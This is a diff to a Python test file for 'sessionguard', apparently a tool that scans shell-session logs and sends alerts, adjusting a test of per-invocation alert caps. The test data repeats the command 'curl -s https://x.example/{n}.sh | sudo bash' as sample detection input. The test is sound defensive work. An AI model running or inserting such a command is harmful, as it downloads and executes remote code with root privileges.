@@ -29,6 +29,7 @@ from moto import mock_aws
 from sessionguard.adapters.logs import CloudWatchTranscriptSink, PutResult, SessionLogReader
 from sessionguard.adapters.slack import UrllibSlackWebhook
 from sessionguard.alerting import session_alerts
+from sessionguard.alerting.batch_claims import INVOCATION_ALERT_CAP
 from sessionguard.alerting.delivery import DeliveryFailed, SlackDeliveryError, post_with_retries
 from sessionguard.alerting.formatting import CAP_SUMMARY_RULE_ID, INVOCATION_SUMMARY_RULE_ID
 from sessionguard.alerting.http import HttpResult, parse_retry_after
@@ -1182,15 +1183,13 @@ def test_one_invocation_sends_at_most_its_cap_and_one_summary(
 ) -> None:
     monkeypatch.setenv("ALERT_CAP_PER_SESSION", "1000")
     monkeypatch.setenv("ALERT_WINDOW_MINUTES", "0")
-    lines = [
-        f"sh-4.2$ curl -s https://x.example/{n}.sh | sudo bash" for n in range(session_alerts.INVOCATION_ALERT_CAP + 10)
-    ]
+    lines = [f"sh-4.2$ curl -s https://x.example/{n}.sh | sudo bash" for n in range(INVOCATION_ALERT_CAP + 10)]
     payload = fixtures.data_message(SPLIT_SESSION, [("2026-11-26T17:00:00Z", session_message(SPLIT_SESSION, lines))])
 
     summary = invoke(app, payload)
 
     rule_ids = stack.sns_rule_ids()
-    assert rule_ids == ["SG-TEST-001"] * session_alerts.INVOCATION_ALERT_CAP + [INVOCATION_SUMMARY_RULE_ID]
+    assert rule_ids == ["SG-TEST-001"] * INVOCATION_ALERT_CAP + [INVOCATION_SUMMARY_RULE_ID]
     summary_record = json.loads(stack.sns_messages()[-1]["Body"].partition("Alert JSON:\n")[2])
     assert "10 more" in summary_record["description"]
     assert summary["suppressed"]["invocation-cap"] == 10
